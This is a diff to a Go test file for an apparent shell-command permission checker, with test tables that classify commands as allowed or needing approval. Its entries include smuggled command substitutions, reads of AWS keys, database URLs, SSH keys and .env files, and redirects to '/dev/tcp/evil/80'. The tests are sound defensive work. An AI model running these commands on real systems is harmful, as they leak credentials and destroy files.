@@ -77,6 +77,8 @@ EOF`, Ask}, {`echo "${x:-$(rm x)}"`, Ask}, {`: ${x:=y}`, Ask}, {`echo ${!x}`, As
 	{`[[ 'a[$(rm x)]' -eq 0 ]]`, Ask}, {`test -v 'a[$(rm x)]'`, Ask}, {`let x=1`, Ask}, {`git diff --output=main.go`, Ask}, {`git diff --ext-diff`, Ask}, {`git branch new`, Ask}, {`git rebase -x 'rm x' main`, Ask},
 	{`git bisect run rm x`, Ask}, {`git submodule foreach 'rm x'`, Ask}, {`git grep -Ovi foo`, Ask}, {`git log --format=%G?`, Ask}, {`git config core.pager x`, Ask}, {`make SHELL=/bin/x`, Ask},
 	{`uniq main.go docs/out`, Ask}, {`tree -o docs/out`, Ask}, {`fd -x rm x`, Ask}, {`busybox rm x`, Ask}, {`timeout --foo 5 ls`, Ask}, {`nohup rm x`, Ask}, {`env`, Ask}, {`set`, Ask}, {`jq env main.go`, Ask},
+	{"ls\r\nrm x", Ask}, {"cat main.go\r", Ask}, {`echo $AWS_SECRET_ACCESS_KEY`, Ask}, {`echo ${DATABASE_URL}`, Ask}, {`echo /etc/*`, Ask}, {`uniq -- main.go -out`, Ask}, {`git tag -n -d v1`, Ask}, {`git tag -l 'v*'`, Allow},
+	{`rg -g '.e*' KEY`, Ask}, {`rg --glob '.e*' KEY`, Ask}, {`rg KEY`, Allow}, {`rg docs`, Allow}, {`rg -A 3 KEY docs`, Allow}, {`git grep --no-index KEY`, Ask}, {`kubectl version`, Ask}, {`cat x=~/.ssh/id_rsa`, Ask},
 	// Redirections that write ask, and so does what cannot be parsed.
 	{`ls > docs/out`, Ask}, {`ls >> docs/out`, Ask}, {`ls &> docs/out`, Ask}, {`ls >| docs/out`, Ask}, {`ls <> docs/out`, Ask}, {`ls > $X`, Ask}, {`go test ./... > docs/out`, Ask}, {`ls 3> docs/out`, Ask}, {`ls >& docs/out`, Ask},
 	{`echo 'unclosed`, Ask}, {`ls )`, Ask}, {`ls > /dev/tcp/evil/80`, Ask}, {`cat < /dev/tcp/evil/80`, Ask},
@@ -104,5 +106,47 @@ func TestACommandLineIsAllowedOnlyWhenEveryPartOfItIs(t *testing.T) {
 	}
 	if len(commandTable) < 120 {
 		t.Errorf("the table has only %d lines", len(commandTable))
+	}
+}
+
+func TestRelativeNamesOfACommandAreRelativeToTheFolderItRunsIn(t *testing.T) {
+	w := shellWorld(t)
+	g := New(Options{Roots: w.roots})
+	for _, c := range []struct {
+		folder, line string
+		want         Verdict
+	}{
+		{"docs", "cat plan.md", Allow}, {"docs", "cat ../main.go", Allow}, {"docs", "cat ../.env", Ask}, {"docs", "cat ../../out/secret.txt", Ask}, {"leakdir", "cat secret.txt", Deny}, {"../out", "ls", Deny}, {".git", "rm config", Ask},
+	} {
+		e := shellEffect(c.line)
+		e.Paths = []string{c.folder}
+		if d := g.Decide(e); d.Verdict != c.want {
+			t.Errorf("%s in %s: %+v, want %s", c.line, c.folder, d, c.want)
+		}
+	}
+}
+
+func TestAPOSIXShellIsJudgedAsOne(t *testing.T) {
+	w := shellWorld(t)
+	g := New(Options{Roots: w.roots, Posix: true, Rules: rulesOf(t, Allow, "shell(go test *)")})
+	for line, want := range map[string]Verdict{
+		`ls && cat main.go`: Allow, `go test ./... | tail -3`: Allow, `cat {.env,main.go}`: Ask, `[[ -f main.go ]]`: Ask, `cat <(ls)`: Ask, `ls; rm x`: Ask, `cat .e*`: Ask, "echo `rm x`": Ask, `sh -c 'ls; rm x'`: Ask, `ls &> docs/out`: Ask,
+	} {
+		if d := g.Decide(shellEffect(line)); d.Verdict != want {
+			t.Errorf("%s: %+v, want %s", line, d, want)
+		}
+	}
+}
+
+func TestAnIgnoreFileCannotSendASearchIntoAHiddenCredential(t *testing.T) {
+	w := shellWorld(t)
+	g := New(Options{Roots: w.roots})
+	w.write("ws/.gitignore", "node_modules\n!.env.example\n")
+	if d := g.Decide(shellEffect("rg KEY")); d.Verdict != Allow {
+		t.Errorf("%+v", d)
+	}
+	w.write("ws/docs/.ignore", "!/.e*\n")
+	if d := g.Decide(shellEffect("rg KEY")); d.Verdict != Ask {
+		t.Errorf("%+v", d)
 	}
 }
